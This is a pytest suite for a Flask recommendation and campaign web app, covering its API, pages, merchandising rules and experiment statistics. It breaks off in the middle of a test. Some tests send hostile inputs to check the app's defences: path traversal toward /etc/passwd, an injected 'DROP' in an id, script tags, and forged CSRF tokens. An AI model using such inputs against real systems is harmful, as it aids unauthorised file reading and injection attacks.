"""The web app through Flask's test client, on a real SQLite store and state file."""

import csv
import datetime as dt
import io
import os
import re
import sqlite3
import time
from contextlib import closing

import pytest

from tests import store_data
from tests.webclient import (PASSWORD, SECRET_KEY, add_user, create_campaign, csrf, error_of, make_key, read_export, sign_in,
                             signed_in)
from webapp import ConfigurationError, accounts, audit, create_app, experiments
from webapp.state import get_state

# ------------------------------------------------------------------ configuration

def test_a_missing_secret_key_outside_development_stops_start_up(tmp_path):
    config = {"SEGREC_DB": str(tmp_path / "none.sqlite"), "SEGREC_STATE_DB": str(tmp_path / "state.sqlite")}
    with pytest.raises(ConfigurationError, match="SECRET_KEY is not set"):
        create_app(config)
    assert create_app({**config, "SEGREC_ENV": "development"}).config["SECRET_KEY"]
    assert not create_app({**config, "SECRET_KEY": SECRET_KEY}).debug
    for weak in ("a", "x" * 40, "0123456789" * 2):
        with pytest.raises(ConfigurationError, match="at least 32 random bytes"):
            create_app({**config, "SECRET_KEY": weak})


def test_configuration_comes_from_the_environment(tmp_path, monkeypatch):
    monkeypatch.setenv("SECRET_KEY", SECRET_KEY)
    monkeypatch.setenv("SEGREC_DB", store_data.build(tmp_path / "env.sqlite", run_id="from-env-run"))
    monkeypatch.setenv("SEGREC_STATE_DB", str(tmp_path / "state.sqlite"))
    client = create_app().test_client()
    assert client.get("/api/v1/healthz").get_json()["store"]["run_id"] == "from-env-run"


# ------------------------------------------------------------------ API

def test_a_known_customer_gets_their_segments_routed_list_with_descriptions(client):
    body = client.get("/api/v1/customers/c5/recommendations?list=discover&n=4").get_json()
    assert body["known"] and body["segment"] == "mid" and body["source"] == "segment_als"
    assert [item["item_id"] for item in body["items"]] == ["I006", "I007", "I008", "I009"]
    assert [item["rank"] for item in body["items"]] == [1, 2, 3, 4]
    assert body["items"][0]["description"] == "Item number 006 <b>bold</b>"
    default = client.get("/api/v1/customers/c5/recommendations").get_json()
    assert default["list"] == "for_you" and len(default["items"]) == 10


def test_an_unknown_customer_gets_trending_for_their_country_or_everyone(client):
    everyone = client.get("/api/v1/customers/new-1/recommendations?n=3").get_json()
    assert not everyone["known"] and everyone["segment"] is None and everyone["source"] == "trending"
    assert [item["item_id"] for item in everyone["items"]] == ["I001", "I002", "I003"] and everyone["country"] is None
    france = client.get("/api/v1/customers/new-1/recommendations?n=3&country=France").get_json()
    assert [item["item_id"] for item in france["items"]] == ["I021", "I022", "I023"] and france["country"] == "France"
    elsewhere = client.get("/api/v1/customers/new-1/recommendations?n=3&country=Atlantis").get_json()
    assert [item["item_id"] for item in elsewhere["items"]] == ["I001", "I002", "I003"] and elsewhere["country"] is None
    for name in ("Côte d'Ivoire", "Türkiye", "日本"):  # names in any script are countries, not bad input
        accented = client.get("/api/v1/customers/new-1/recommendations", query_string={"n": 3, "country": name})
        assert accented.status_code == 200 and accented.get_json()["country"] is None


@pytest.mark.parametrize("query, message", [
    ("n=0", "n must be from 1 to 100, got 0"),
    ("n=101", "n must be from 1 to 100, got 101"),
    ("n=ten", "n must be a whole number from 1 to 100"),
    ("list=popular", "list must be one of for_you, discover, buy_again"),
    ("country=%3Cscript%3E", "country must be a country name"),
    ("country=Fr4nce", "country must be a country name"),
])
def test_bad_parameters_are_400_with_a_message(client, query, message):
    assert message in error_of(client.get(f"/api/v1/customers/c5/recommendations?{query}"), 400)


@pytest.mark.parametrize("path", ["/api/v1/customers/c%3B%20DROP/recommendations", "/api/v1/customers/" + "x" * 65,
                                  "/api/v1/items/I%2A1/similar", "/api/v1/customers/%20c1"])
def test_malformed_ids_are_400(client, path):
    assert "must be 1-64 letters" in error_of(client.get(path), 400)


def test_a_slash_in_an_id_matches_no_route(client):
    error_of(client.get("/api/v1/items/..%2Fetc/similar"), 404)


def test_similar_items_and_unknown_items(client):
    body = client.get("/api/v1/items/I010/similar?n=5").get_json()
    assert body["description"].startswith("Item number 010")
    assert [item["item_id"] for item in body["items"]] == ["I011", "I012", "I013", "I014", "I015"]
    assert "item NOPE is not in the store" in error_of(client.get("/api/v1/items/NOPE/similar"), 404)


def test_customer_profile_segments_and_health(client):
    profile = client.get("/api/v1/customers/c2").get_json()
    assert profile["segment"] == "high" and profile["clv"] == 498.0 and profile["p_alive"] == 0.9
    assert "customer zz is not in the store" in error_of(client.get("/api/v1/customers/zz"), 404)
    segments = client.get("/api/v1/segments").get_json()["segments"]
    assert [s["segment"] for s in segments] == ["high", "mid", "low"]
    health = client.get("/api/v1/healthz").get_json()
    assert health["status"] == "ok" and health["store"]["run_id"] == "run-a" and health["store"]["age_seconds"] >= 0


def listed(client, customer, list_name, n=10, **query) -> list[tuple[str, str]]:
    """(item, source) of a shopper's list, in rank order."""
    answer = client.get(f"/api/v1/customers/{customer}/recommendations", query_string={"list": list_name, "n": n, **query}).get_json()
    return [(item["item_id"], item["source"]) for item in answer["items"]]


def post_event(client, customer, item, kind, **fields):
    response = client.post("/api/v1/events", json={"customer_id": customer, "item_id": item, "type": kind,
                                                    "timestamp": dt.datetime.now(dt.timezone.utc).isoformat(), **fields})
    assert response.status_code == 201 and response.get_json()["id"] >= 1


def test_events_move_the_next_lists_and_survive_a_restart(client, app):
    # c5's batch lists: for_you I005.., discover I006.., buy_again I005-I007; I040's neighbours are I041.. (store_data)
    assert listed(client, "c5", "for_you", 3) == [("I005", "for_you"), ("I006", "for_you"), ("I007", "for_you")]
    post_event(client, "c5", "I040", "view", session_id="s-1")
    for_you = listed(client, "c5", "for_you")
    assert for_you[0] == ("I040", "events") and len(for_you) == 10
    assert ("I005", "for_you") in for_you  # fused with the batch list, not replaced by it
    assert ("I041", "events") in listed(client, "c5", "discover") and "I041" not in dict(for_you)  # neighbours go to discover
    post_event(client, "c5", "I006", "purchase", quantity=2, price=3.5)
    discover = listed(client, "c5", "discover")
    assert "I006" not in [item for item, _ in discover] and len(discover) == 10
    assert [item for item, _ in listed(client, "c5", "for_you", 30)].index("I006") > 3  # just bought: demoted, not dropped
    assert listed(client, "c5", "buy_again")[0] == ("I006", "buy_again+events")
    restarted = create_app(app.config.copy()).test_client()
    restarted.environ_base["HTTP_AUTHORIZATION"] = client.environ_base["HTTP_AUTHORIZATION"]
    assert listed(restarted, "c5", "for_you") == listed(client, "c5", "for_you")
    with app.app_context():
        stored = get_state().query("SELECT type, session_id, quantity, price FROM events ORDER BY id")
    assert [tuple(row) for row in stored] == [("view", "s-1", None, None), ("purchase", None, 2.0, 3.5)]


def test_recorded_purchases_are_exported_for_the_next_run(client, app, tmp_path, capsys):
    from webapp import events

    post_event(client, "c5", "I040", "view")
    post_event(client, "c5", "I041", "purchase", session_id="s-9", quantity=2, price=7.5)
    post_event(client, "new-1", "I042", "purchase")
    written = tmp_path / "events.csv"
    assert events.main(["--state-db", app.config["SEGREC_STATE_DB"], "export", "--output", str(written),
                        "--store", app.config["SEGREC_DB"]]) == 0
    assert "2 purchases written" in capsys.readouterr().out
    rows = list(csv.DictReader(written.open()))
    assert list(rows[0]) == list(events.COLUMNS)
    assert [(row["order_id"], row["customer_id"], row["item_id"], row["quantity"], row["unit_price"], row["country"]) for row in rows] == [
        ("session-s-9", "c5", "I041", "2.0", "7.5", "France"),  # c5's country in the store
        (f"event-{3}", "new-1", "I042", "1.0", "43.0", "")]  # no price posted: the store's price of I042; no quantity: 1
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", rows[0]["timestamp"])
    tomorrow = (dt.date.today() + dt.timedelta(days=1)).isoformat()
    events.main(["--state-db", app.config["SEGREC_STATE_DB"], "export", "--output", str(written), "--since", tomorrow,
                 "--store", app.config["SEGREC_DB"]])
    assert len(list(csv.DictReader(written.open()))) == 0 and not list(tmp_path.glob("*.tmp"))
    from webapp import operators

    assert operators.run(events.main, ["--state-db", app.config["SEGREC_STATE_DB"], "export", "--output", str(written),
                                       "--store", str(tmp_path / "none.sqlite")]) == 2
    assert "none.sqlite gives no prices" in capsys.readouterr().err
    with app.app_context():
        assert [row["outcome"] for row in audit.entries(get_state(), action="events-export")] == ["refused", "ok", "ok"]


def test_lists_are_topped_up_to_n_from_the_batch_then_trending(client):
    discover = listed(client, "c5", "discover")
    for item, _ in discover[:8]:
        post_event(client, "c5", item, "purchase")
    after = listed(client, "c5", "discover")
    assert len(after) == 10 and not {item for item, _ in discover[:8]} & {item for item, _ in after}
    long = listed(client, "c5", "discover", 31)  # 22 stored left, then France's trending (I036..I040 are new), then everyone's
    assert len(long) == 31 and [item for item, _ in long[-9:]] == ["I036", "I037", "I038", "I039", "I040", "I001", "I002", "I003", "I004"]
    assert {source for _, source in long[-9:]} == {"trending"}
    topped_up = [item for item, _ in listed(client, "c4", "discover", 60)]  # c4 bought I004 before the batch; it is trending
    assert "I003" in topped_up and "I004" not in topped_up


def test_a_shopper_unknown_to_the_batch_gets_their_events_neighbours_not_trending(client):
    assert listed(client, "new-7", "for_you", 3) == [("I001", "trending"), ("I002", "trending"), ("I003", "trending")]
    post_event(client, "new-7", "I040", "view")
    post_event(client, "new-7", "I045", "cart")
    for_you = listed(client, "new-7", "for_you")
    assert [item for item, _ in for_you[:2]] == ["I045", "I046"] and {source for _, source in for_you} == {"events"}
    assert {"I040", "I041"} <= {item for item, _ in listed(client, "new-7", "for_you", 30)}  # the view pulls less than the cart
    answer = client.get("/api/v1/customers/new-7/recommendations?list=for_you&n=40").get_json()  # 25 pulled, 15 trending
    assert answer["known"] is False and answer["source"] == "events+trending" and len(answer["items"]) == 40
    post_event(client, "new-7", "I045", "purchase")
    assert "I045" not in [item for item, _ in listed(client, "new-7", "discover", 30)]
    assert listed(client, "new-7", "buy_again") == [("I045", "events")]  # only what they bought: never padded with others


@pytest.mark.parametrize("body, message", [
    ({"customer_id": "c5", "item_id": "I001", "type": "purchase"}, "timestamp must be an ISO 8601 date-time"),
    ({"customer_id": "c5", "item_id": "I001", "type": "click", "timestamp": "2011-12-11T10:00:00"}, "type must be one of view, cart, purchase"),
    ({"customer_id": "", "item_id": "I001", "type": "view", "timestamp": "2011-12-11"}, "customer_id must be 1-64"),
    ({"customer_id": "c5", "item_id": "I001", "type": "view", "timestamp": "2011-12-11", "coupon": 3}, "unknown field(s) coupon"),
    ({"customer_id": "c5", "item_id": "I001", "type": "view", "timestamp": "2011-12-11", "price": "3"}, "price must be a number"),
    ({"customer_id": "c5", "item_id": "I001", "type": "cart", "timestamp": "2011-12-11", "session_id": "a b"}, "session_id must be 1-64"),
    (["c5", "I001"], "the body must be a JSON object"),
])
def test_bad_events_are_400_and_not_stored(client, app, body, message):
    assert message in error_of(client.post("/api/v1/events", json=body), 400)
    with app.app_context():
        from webapp.state import get_state
        assert get_state().query("SELECT COUNT(*) AS n FROM events")[0]["n"] == 0


def test_non_json_oversized_and_unknown_requests_get_json_errors(client):
    assert "send the event as JSON" in error_of(client.post("/api/v1/events", data="customer_id=c5"), 400)
    assert "not valid JSON" in error_of(client.post("/api/v1/events", data="{nope", content_type="application/json"), 400)
    error_of(client.post("/api/v1/events", data="x" * (65 * 1024), content_type="application/json"), 413)
    error_of(client.get("/api/v1/nothing-here"), 404)
    error_of(client.delete("/api/v1/segments"), 405)


def test_the_openapi_document_lists_every_route(client):
    document = client.get("/api/v1/openapi.json").get_json()
    assert document["openapi"].startswith("3.")
    assert set(document["paths"]) == {"/api/v1/customers/{customer_id}/recommendations", "/api/v1/customers/{customer_id}",
                                      "/api/v1/items/{item_id}/similar", "/api/v1/segments", "/api/v1/healthz", "/api/v1/events",
                                      "/api/v1/openapi.json"}


# ------------------------------------------------------------------ store versions

def test_a_new_store_is_picked_up_and_a_broken_one_is_not(client, tmp_path, app):
    target = app.config["SEGREC_DB"]
    os.replace(store_data.build(tmp_path / "next.sqlite", run_id="run-b", as_of="2012-01-01"), target)
    assert client.get("/api/v1/healthz").get_json()["store"]["run_id"] == "run-b"
    os.replace(store_data.build(tmp_path / "broken.sqlite", run_id="run-c", drop_table="trending"), target)
    health = client.get("/api/v1/healthz").get_json()
    assert health["store"]["run_id"] == "run-b" and "missing table(s) trending" in health["problem_with_newer_file"]
    assert len(client.get("/api/v1/customers/new-9/recommendations").get_json()["items"]) == 10  # still served from run-b


def test_no_store_at_all_is_a_503_not_a_crash(tmp_path):
    app = create_app({"SEGREC_DB": str(tmp_path / "missing.sqlite"), "SEGREC_STATE_DB": str(tmp_path / "s.sqlite"), "SECRET_KEY": SECRET_KEY})
    key = {"Authorization": f"Bearer {make_key(app)}"}
    assert "publish one with jobs.publish" in error_of(app.test_client().get("/api/v1/segments", headers=key), 503)
    page = signed_in(app, "viewer").get("/")
    assert page.status_code == 503 and b"Traceback" not in page.data


# ------------------------------------------------------------------ pages

def test_dashboard_shows_segments_and_charts_with_security_headers(client):
    page = client.get("/")
    text = page.get_data(as_text=True)
    assert page.status_code == 200 and "high" in text and 'src="/charts/segment_sizes.png"' in text
    # Lifecycle states by their plain names, each explained, with customers per value segment (store_data: c<k> in state k % 4)
    lifecycle = text[text.index('<table id="lifecycle">'):]
    lifecycle = lifecycle[:lifecycle.index("</table>")]
    assert [re.sub("<.*?>", " ", row).split()[:2] for row in re.findall(r"<tr>(.*?)</tr>", lifecycle, re.S)[1:]] == [
        ["New", "new"], ["Active", "active"], ["At", "risk"], ["Lapsed", "lapsed"]]
    assert 'title="at_risk"' in lifecycle and "lapsed explained." in lifecycle
    assert re.search(r"lapsed explained\..*?</td>\s*<td>10</td><td>€21,000.00</td>", lifecycle, re.S)  # c3, c7, .., c39, in the store's currency
    assert 'href="/audiences/?lifecycle=lapsed&amp;total_spend_min=500"' in lifecycle  # the high segment's mean spend
    assert page.headers["X-Frame-Options"] == "DENY" and "default-src 'self'" in page.headers["Content-Security-Policy"]
    assert page.headers["X-Content-Type-Options"] == "nosniff"
    chart = client.get("/charts/segment_sizes.png")
    assert chart.status_code == 200 and chart.mimetype == "image/png"


def test_the_runs_page_shows_the_history_and_how_customers_moved(client):
    page = client.get("/runs").get_data(as_text=True)
    assert page.count("<td><strong>current</strong></td>") == 1 and "run-before" in page and "2011-11-10" in page
    migration = page[page.index('<table id="migration">'):page.index("</table>", page.index('<table id="migration">'))]
    rows = [re.sub(r"<.*?>", " ", row).split() for row in re.findall(r"<tr>(.*?)</tr>", migration, re.S)]
    assert rows[0] == ["From", "\\", "to", "high", "mid", "low"]
    assert rows[1:] == [["high", "3", "€600.00", "2", "€900.00"], ["mid", "2", "€1,100.00"], ["low", "28", "€20,000.00"],
                        ["(new)", "4", "€1,000.00"]]


@pytest.mark.parametrize("path", ["/charts/../../etc/passwd.png", "/charts/..%2F..%2Fetc%2Fpasswd.png", "/charts/Segment-Sizes.png",
                                  "/charts/unknown.png"])
def test_chart_routes_never_reach_the_file_system(client, path):
    response = client.get(path)
    assert response.status_code == 404 and b"root:" not in response.data


def test_customer_lookup_escapes_what_it_shows(client):
    text = client.get("/customers?id=c5").get_data(as_text=True)
    assert "mid" in text and "&lt;b&gt;bold&lt;/b&gt;" in text and "<b>bold</b>" not in text
    # plain names, the technical ones on hover: c5 is active (store_data), its lists are buy_again's and segment_als'
    assert '<span title="active">Active</span>' in text and '<h3 title="for_you">For you (best picks)' in text
    assert '<small title="segment_als">from similar tastes in their segment (ALS)</small>' in text
    assert 'title="p_alive (BG/NBD)">Chance still a customer' in text and "P(alive)" not in text and "RFM (lifetimes)" not in text
    assert "unknown customers are served trending" in client.get("/customers?id=zz").get_data(as_text=True)
    assert "must be 1-64 letters" in client.get("/customers?id=%3Cscript%3E").get_data(as_text=True)


def test_new_items_get_seen_in_discover_and_also_bought_and_new_arrivals(app):
    explored = create_app({**app.config, "SEGREC_EXPLORATION_SHARE": 0.2})
    client = signed_in(explored, "editor")
    client.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {make_key(explored)}"
    # c5's discover starts I006..I010, near all five new items alike (store_data.NEW): ties go by id
    discover = listed(client, "c5", "discover")
    assert len(discover) == 10 and [(position, row) for position, row in enumerate(discover) if row[1] == "new"] == [
        (2, ("I055", "new")), (7, ("I056", "new"))]  # two of ten slots
    assert all(source != "new" for _, source in listed(client, "c5", "for_you"))  # exploring is discover's
    similar = client.get("/api/v1/items/I002/similar?n=10").get_json()["items"]
    assert [(item["item_id"], item["source"]) for item in similar if item["source"] == "new"] == [("I057", "new"), ("I058", "new")]
    assert {item["source"] for item in similar} == {"also_bought", "new"}
    france = client.get("/api/v1/customers/c5/recommendations?list=new_arrivals&n=5").get_json()  # c5 is in France
    assert [item["item_id"] for item in france["items"]] == ["I059", "I058", "I055", "I056", "I057"] and france["country"] == "France"
    assert {item["source"] for item in france["items"]} == {"new_arrivals"}
    post_event(client, "c5", "I059", "purchase")
    assert "I059" not in [item for item, _ in listed(client, "c5", "new_arrivals")]  # never what they bought
    assert [item for item, _ in listed(client, "nobody", "new_arrivals", 10, groups="red")] == ["I057"]  # rules apply
    with pytest.raises(ConfigurationError, match="exploration_share must be from 0 to 0.5"):
        create_app({**app.config, "SEGREC_EXPLORATION_SHARE": 0.8})


# ------------------------------------------------------------------ merchandising rules

def item_number(item: str) -> int:
    return int(item[1:])  # I<k> costs k + 1 and is in store_data.GROUPS[k % 3]


def test_request_filters_keep_lists_full_and_within_them(client):
    assert not {"I005", "I006"} & {item for item, _ in listed(client, "c5", "for_you", exclude_items="I005,I006")}
    assert len(listed(client, "c5", "for_you", exclude_items="I005,I006")) == 10
    for customer in ("c5", "new-3"):
        for list_name in ("for_you", "discover"):
            red = listed(client, customer, list_name, 12, groups="red")
            assert len(red) == 12 and all(item_number(item) % 3 == 0 for item, _ in red), (customer, list_name, red)
            priced = listed(client, customer, list_name, 10, min_price="20", max_price="30.5")
            assert len(priced) == 10 and all(20 <= item_number(item) + 1 <= 30.5 for item, _ in priced)
    beyond_trending = listed(client, "new-3", "for_you", 6, groups="red", min_price="42")  # trending stops at I040
    assert beyond_trending == [(f"I0{k}", "popular") for k in (42, 45, 48, 51, 54, 57)]  # from the catalogue, most bought first
    answer = client.get("/api/v1/customers/c5/recommendations", query_string={"groups": "blue", "max_price": "3", "n": 5}).get_json()
    assert [item["item_id"] for item in answer["items"]] == ["I001"] and answer["truncated"]  # the only blue item at 3 or less
    assert listed(client, "c5", "for_you", min_price="5", max_price="2") == []  # a range that holds nothing
    similar = client.get("/api/v1/items/I000/similar", query_string={"exclude_groups": "blue,green", "n": 5}).get_json()["items"]
    assert [item["item_id"] for item in similar] == ["I003", "I006", "I009", "I012", "I015"]


@pytest.mark.parametrize("query, message", [
    ({"groups": "Red!"}, "groups must be group names"), ({"min_price": "-1"}, "min_price must be from 0"),
    ({"max_price": "cheap"}, "max_price must be a number"), ({"max_price": "1e9"}, "max_price must be from 0 to 1e9"),
    ({"exclude_items": ",".join(f"I{k:04d}" for k in range(500))}, "at most 2,000 characters"),
    ({"exclude_items": "I1,;"}, "item ids separated"), ({"exclude_items": "I1, I2"}, "item ids separated"),
    ({"min_price": "nan"}, "min_price must be from 0"),
])
def test_malformed_filters_are_400(client, query, message):
    for path in ("/api/v1/customers/c5/recommendations", "/api/v1/items/I001/similar"):
        assert message in error_of(client.get(path, query_string=query), 400)


def set_rule(client, item, rule, note=""):
    return client.post("/merchandising/", data={"item_id": item, "rule": rule, "note": note, "csrf_token": csrf(client, "/merchandising/")})


def test_a_blocked_item_never_appears_in_any_list_page_or_export(client, app):
    assert set_rule(client, "I001", "block", "recalled").status_code == 302
    assert set_rule(client, "I021", "block").status_code == 302  # France's most trending
    post_event(client, "new-9", "I000", "view")  # its neighbours start with I001
    post_event(client, "c1", "I001", "cart")
    blocked = {"I001", "I021"}
    for customer in ("c1", "c2", "c9", "new-9", "new-10"):
        for list_name in ("for_you", "discover", "buy_again"):
            assert not blocked & {item for item, _ in listed(client, customer, list_name, 40, country="France")}, (customer, list_name)
        assert len(listed(client, customer, "for_you", 40)) == 40
    assert not blocked & {item["item_id"] for item in client.get("/api/v1/items/I000/similar?n=20").get_json()["items"]}
    page = client.get("/customers?id=c1").get_data(as_text=True)
    assert "I002" in page.split('<div class="lists">')[1].split('id="events"')[0]
    assert "I001" not in page.split('<div class="lists">')[1].split('id="events"')[0]  # the lists, not the shopper's own activity
    path = create_campaign(client, segments=["high", "mid", "low"], list="for_you").headers["Location"]
    exported = {row[column] for row in read_export(client, path) for column in row if column.startswith("item_") and "desc" not in column}
    assert exported and not blocked & exported
    page = client.get("/merchandising/").get_data(as_text=True)
    assert "recalled" in page and 'class="rule-block"' in page
    with app.app_context():
        assert ("editor", "item-block", "I001", "ok") in [(row["actor"], row["action"], row["target"], row["outcome"])
                                                          for row in audit.entries(get_state())]
    client.post("/merchandising/I001/remove", data={"csrf_token": csrf(client, "/merchandising/")})
    assert ("I001", "trending") in listed(client, "new-10", "for_you", 3)


def test_promoted_items_take_their_share_of_the_slots(client, app):
    for item in ("I050", "I010"):
        set_rule(client, item, "promote")
    for_you = listed(client, "c5", "for_you")
    assert for_you[2] == ("I050", "promoted") and for_you[7] == ("I010", "promoted") and len(for_you) == 10
    assert [item for item, _ in listed(client, "c10", "discover")].count("I010") == 0  # c10 bought I010: discover never offers it
    assert all(source != "promoted" for _, source in listed(client, "c5", "buy_again"))
    token = csrf(client, "/merchandising/")
    assert client.post("/merchandising/share", data={"promoted_share": "0.1", "csrf_token": token}).status_code == 302
    assert [row for row in listed(client, "c5", "for_you") if row[1] == "promoted"] == [("I050", "promoted")]
    refused = client.post("/merchandising/share", data={"promoted_share": "0.9", "csrf_token": token})
    assert refused.status_code == 400 and b"from 0 to 0.5" in refused.data
    with app.app_context():
        assert ("promoted-share", "refused") in [(row["action"], row["outcome"]) for row in audit.entries(get_state())]
    viewer = signed_in(app, "viewer")
    assert viewer.get("/merchandising/").status_code == 200 and b"I050" in viewer.get("/merchandising/").data
    assert set_rule(viewer, "I002", "block").status_code == 403


# ------------------------------------------------------------------ campaigns

def test_forms_without_a_valid_csrf_token_are_refused(client):
    response = client.post("/campaigns/", data={"name": "x", "segments": "mid", "list": "discover", "n": "3", "control_share": "10"})
    assert response.status_code == 400 and b"form has expired" in response.data
    assert client.post("/campaigns/", data={"name": "x", "csrf_token": "forged"}).status_code == 400


def test_a_campaign_is_built_previewed_and_exported_deterministically(client):
    response = create_campaign(client)
    assert response.status_code == 302
    path = response.headers["Location"]
    page = client.get(path).get_data(as_text=True)
    assert "Winter" in page and 'id="preview"' in page
    rows = read_export(client, path)
    assert list(rows[0]) == ["customer_id", "segment", "variant", "item_1", "item_1_description", "item_2", "item_2_description",
                             "item_3", "item_3_description"]
    assert {row["customer_id"] for row in rows} == set(store_data.SEGMENTS["mid"] + store_data.SEGMENTS["low"])
    assert rows == read_export(client, path)  # the same split and lists on every export
    personal = [row for row in rows if row["variant"] == "personalised"]
    control = [row for row in rows if row["variant"] == "control"]
    assert personal and control
    c = personal[0]
    k = int(c["customer_id"][1:])
    assert [c["item_1"], c["item_2"], c["item_3"]] == store_data.ITEMS[k + 1:k + 4]  # their discover list
    assert all(row["item_1"] in ("I001", "I021") for row in control)  # trending for their country


def test_bad_campaign_forms_say_everything_that_is_wrong(client):
    response = create_campaign(client, name="", segments=["vip"], n="99", control_share="80")
    text = response.get_data(as_text=True)
    assert response.status_code == 400
    for message in ("give the campaign a name", "choose a saved audience or one or more of the segments", "from 1 to 20",
                    "percentage from 1 to 50"):
        assert message in text


def test_results_from_an_uploaded_csv(client):
    path = create_campaign(client).headers["Location"]
    rows = read_export(client, path)
    buyers = [row["customer_id"] for row in rows if row["variant"] == "personalised"][:4]
    lines = ["customer_id,date,revenue"] + [f"{c},2011-12-20,50" for c in buyers] + ["c999,2011-12-20,70", "c1,2011-12-20,30"]
    token = csrf(client, path)
    response = client.post(f"{path}/results", data={"csrf_token": token, "purchases": (io.BytesIO("\n".join(lines).encode()), "p.csv")},
                           content_type="multipart/form-data")
    assert response.status_code == 302
    page = client.get(path).get_data(as_text=True)
    personalised = sum(row["variant"] == "personalised" for row in rows)
    assert f"{4 / personalised * 100:.1f}%" in page and 'id="uplift"' in page
    control = len(rows) - personalised
    expected = experiments.results({row["customer_id"]: row["variant"] for row in rows},
                                   [(c, dt.date(2011, 12, 20), 50.0) for c in buyers])["uplift"]
    assert f"<td>Conversion</td><td>{100 * (4 / personalised - 0 / control):+.1f} pp</td>" in page
    assert f"<td>{expected['conversion_p_value']:.3f}</td>" in page and "no buyers in a group" in page  # no control buyer: no ratio
    assert client.get(f"{path}/results.png").mimetype == "image/png"


def test_the_planner_says_how_many_customers_the_test_needs(client):
    path = create_campaign(client).headers["Location"]
    rows = read_export(client, path)
    page = client.get(path, query_string={"baseline": "2", "uplift": "25"}).get_data(as_text=True)
    plan = experiments.TestPlan(baseline=0.02, relative_uplift=0.25, control_share=0.25, audience=len(rows))
    assert f"need\n  <strong>{plan.needed()['total']:,}</strong> customers" in page.replace("needs", "need")
    assert f"This audience has {len(rows):,}:\n  too few." in page
    assert f"The smallest uplift it can detect is {100 * plan.detectable():+.1f}%." in page
    for query, message in (({"baseline": "abc"}, "must be numbers"), ({"baseline": "0"}, "expected conversion must be above 0%"),
                           ({"uplift": "-5"}, "uplift hoped for must be above 0%")):
        response = client.get(path, query_string=query)
        assert response.status_code == 400 and message in response.get_data(as_text=True)


def test_bad_uploads_list_their_rows_and_change_nothing(client):
    path = create_campaign(client).headers["Location"]
    text = "customer_id,revenue,date\nc8,abc,2011-12-20\n,5,2011-12-20\nc9,5,20/12/2011\nc10,-3,\n"
    token = csrf(client, path)
    response = client.post(f"{path}/results", data={"csrf_token": token, "purchases": (io.BytesIO(text.encode()), "bad.csv")},
                           content_type="multipart/form-data")
    page = response.get_data(as_text=True)
    assert response.status_code == 400
    for message in ("line 2: revenue must be a number", "line 3: customer_id is empty", "line 4: date must be YYYY-MM-DD",
                    "line 5: revenue must be a number of 0 or more"):
        assert message in page
    assert "No results yet" in client.get(path).get_data(as_text=True)
    big = client.post(f"{path}/results", data={"csrf_token": token, "purchases": (io.BytesIO(b"x" * (70 * 1024)), "big.csv")},
                      content_type="multipart/form-data")
    assert big.status_code == 413


def test_results_from_the_stores_own_later_transactions(client, app, tmp_path):
    path = create_campaign(client).headers["Location"]  # created on data as of 2011-12-10
    assert "Use the transactions after" not in client.get(path).get_data(as_text=True)
    os.replace(store_data.build(tmp_path / "later.sqlite", run_id="run-later", as_of="2012-01-10"), app.config["SEGREC_DB"])
    assert "Use the transactions after 2011-12-10" in client.get(path).get_data(as_text=True)
    response = client.post(f"{path}/results", data={"csrf_token": csrf(client, path), "use": "transactions"})
    assert response.status_code == 302
    page = client.get(path).get_data(as_text=True)
    assert "From transactions" in page and "2 purchases by the audience" in page  # c8 and c9 on 2011-12-15; c1 is not targeted


# ------------------------------------------------------------------ experiment arithmetic

def test_assignment_is_deterministic_and_close_to_the_share():
    customers = [f"c{i}" for i in range(20000)]
    first = [experiments.variant(c, "salt", 0.2) for c in customers]
    assert first == [experiments.variant(c, "salt", 0.2) for c in customers]
    assert abs(first.count(experiments.CONTROL) / len(customers) - 0.2) < 0.01
    assert first != [experiments.variant(c, "other", 0.2) for c in customers]


def test_uplift_and_its_interval_match_the_textbook_formula():
    import math

    audience = {f"t{i}": experiments.TREATMENT for i in range(200)} | {f"k{i}": experiments.CONTROL for i in range(100)}
    purchases = [(f"t{i}", None, 10.0) for i in range(40)] + [(f"k{i}", None, 10.0) for i in range(10)]
    summary = experiments.results(audience, purchases)
    uplift = summary["uplift"]
    assert uplift["conversion"] == pytest.approx(0.2 - 0.1)
    se = math.sqrt(0.2 * 0.8 / 200 + 0.1 * 0.9 / 100)
    assert uplift["conversion_ci95"] == pytest.approx([0.1 - 1.96 * se, 0.1 + 1.96 * se], abs=1e-3)
    assert uplift["significant"] and summary["variants"]["personalised"]["revenue_per_customer"] == pytest.approx(2.0)
    # The two-proportion z-test's p-value, from the normal distribution by hand
    z = 0.1 / se
    assert uplift["conversion_p_value"] == pytest.approx(math.erfc(z / math.sqrt(2)), rel=1e-6)
    # Relative: 20% against 10% is +100%; its interval from the log ratio, 1.96 standard errors either side
    log_se = math.sqrt(1 / 40 - 1 / 200 + 1 / 10 - 1 / 100)
    assert uplift["relative_conversion"] == pytest.approx(1.0)
    assert uplift["relative_conversion_ci95"] == pytest.approx([2 * math.exp(-1.96 * log_se) - 1, 2 * math.exp(1.96 * log_se) - 1], abs=1e-3)
    # Revenue per customer: Welch's t-test on each customer's spend (2.0 against 1.0)
    from scipy import stats

    spend = {name: [10.0] * buyers + [0.0] * (size - buyers) for name, buyers, size in (("t", 40, 200), ("k", 10, 100))}
    welch = stats.ttest_ind(spend["t"], spend["k"], equal_var=False)
    assert uplift["revenue_per_customer"] == pytest.approx(1.0) and uplift["relative_revenue"] == pytest.approx(1.0)
    assert uplift["revenue_p_value"] == pytest.approx(welch.pvalue) and uplift["revenue_per_customer_ci95"][0] > 0


def test_no_difference_is_not_significant_and_a_control_without_buyers_has_no_ratio():
    audience = {f"t{i}": experiments.TREATMENT for i in range(100)} | {f"k{i}": experiments.CONTROL for i in range(100)}
    same = experiments.results(audience, [(f"{side}{i}", None, 5.0) for side in "tk" for i in range(10)])["uplift"]
    assert same["conversion"] == 0 and same["conversion_p_value"] == pytest.approx(1.0) and not same["significant"]
    assert same["revenue_p_value"] == pytest.approx(1.0)
    none_in_control = experiments.results(audience, [(f"t{i}", None, 5.0) for i in range(10)])["uplift"]
    assert none_in_control["relative_conversion"] is None and none_in_control["relative_revenue"] is None


def test_the_test_plan_gives_the_textbook_sample_size_and_what_an_audience_can_detect():
    import math

    from scipy.stats import norm

    plan = experiments.TestPlan(baseline=0.05, relative_uplift=0.2, control_share=0.5, audience=10_000)
    needed = plan.needed()
    # Equal groups: n = 2 ((z_a/2 + z_b) / h)^2 per group, h = Cohen's effect size for two proportions (each arcsine has variance 1/n)
